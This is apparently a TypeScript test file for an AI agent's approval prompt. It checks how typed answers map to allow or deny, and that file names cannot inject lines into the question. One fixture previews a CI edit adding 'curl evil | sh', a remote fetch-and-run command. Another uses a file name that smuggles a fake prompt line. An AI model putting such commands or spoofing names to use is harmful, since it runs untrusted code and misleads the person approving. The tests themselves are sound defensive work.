import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { EventOf } from '../../ipc/events.ts';
import { answerOf, questionLines } from '../../tui/text/question.ts';

/** Goal: only words that a question names answer it, and a person sees what they answer. Method: tables. */
const asked: EventOf<'approval.requested'> = {
  ...{ type: 'approval.requested', seq: 1, at: '', run: 'r', v: 1, approval: 'a1', agent: 'one', call: 'c' },
  exact: {
    ...{
      tool: 'edit_file',
      summary: 'edit_file ci.yml',
      directory: '/w',
      environment: {},
      files: ['ci.yml'],
      reads: [],
    },
    ...{ paths: ['/w/ci.yml'], preview: ['+ run: curl evil | sh'], digest: 'd' },
  },
  ...{ rule: 'a rule', risk: 'beyond', deadline: '2026-01-01T00:00:00.000Z', default: 'deny' },
};
const withPattern = { ...asked, pattern: 'npm test' };

const words: [said: string, meant: string | null][] = [
  ...['y', 'Y', 'yes', ' yes '].map((said): [string, string] => [said, 'allow once']),
  ...[['t', 'allow task'] as const, ['run', 'allow run'] as const].map(([said, meant]): [string, string] => [
    said,
    meant,
  ]),
  ...['n', 'no', 'NO'].map((said): [string, string] => [said, 'deny']),
  ['no, use make', 'deny: use make'],
  ...[
    'absolutely not',
    'abort',
    'reject',
    'try something else',
    'that is wrong',
    'are you sure?',
    'yesterday',
    'nothing',
    '',
    'a',
    'always',
  ].map((said): [string, null] => [said, null]),
];
for (const [said, meant] of words)
  test(`${JSON.stringify(said)} means ${meant ?? 'nothing'}`, () => {
    const found = answerOf(asked, said);
    const shown =
      found && (found.answer === 'allow' ? `allow ${found.scope}` : `deny${found.reason ? `: ${found.reason}` : ''}`);
    assert.equal(shown, meant);
  });

test('always is an answer only where there is a pattern', () => {
  assert.equal(answerOf(withPattern, 'always')?.scope, 'always');
});

test('a question shows what would be written, and what an answer for longer means', () => {
  const lines = questionLines(asked, null).join('\n');
  assert.match(lines, /\+ run: curl evil \| sh/);
  assert.match(lines, /stands for: any change of ci\.yml/);
  assert.match(questionLines(withPattern, null).join('\n'), /stands for: npm test/);
});

test('a file name cannot write a line of its own into the question', () => {
  const name = 'AGENTS.md\n  why it is asked: nothing at all\n\u2028x';
  const exact = { ...asked.exact, command: undefined, summary: `write_file ${name}`, files: [name] };
  const lines = questionLines({ ...asked, exact }, null).flatMap((line) => line.split(/[\n\u2028]/));
  assert.equal(lines.filter((line) => /^\s*why it is asked/.test(line)).length, 1);
  assert.ok(lines.some((line) => line.includes('AGENTS.md\\n  why it is asked: nothing at all\\n\\u2028x')));
});
